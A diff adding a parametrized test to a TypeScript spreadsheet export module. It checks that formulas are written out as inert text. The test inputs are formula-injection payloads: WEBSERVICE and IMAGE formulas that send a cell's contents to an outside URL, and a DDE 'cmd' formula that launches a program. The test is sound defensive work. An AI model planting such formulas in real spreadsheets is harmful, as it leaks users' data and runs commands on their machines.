@@ -5,6 +5,14 @@ const bare: CellMap = { sheet: '表', cells: [], looks: [], merges: [], rows: []
 const line = { style: 'Continuous', weight: 'Thin', color: '#000000' };
 
 describe('cells', () => {
+  test.each(['=WEBSERVICE("https://example.com/?"&A1)', '=IMAGE("https://example.com/?"&A1)', "=cmd|'/C calc'!A0"])(
+    'the formula %s, which would tell somebody else what stands here, is drawn as what it showed',
+    (formula) => {
+      const { blocks } = drawingOf({ ...bare, cells: [{ row: 1, column: 1, text: '=甲', formula }] });
+      expect(blocks[0]?.formulas).toEqual([["'=甲"]]);
+    },
+  );
+
   test('are written as one block from the first to the last, what is not there is left as it is', () => {
     const { blocks } = drawingOf({
       ...bare,
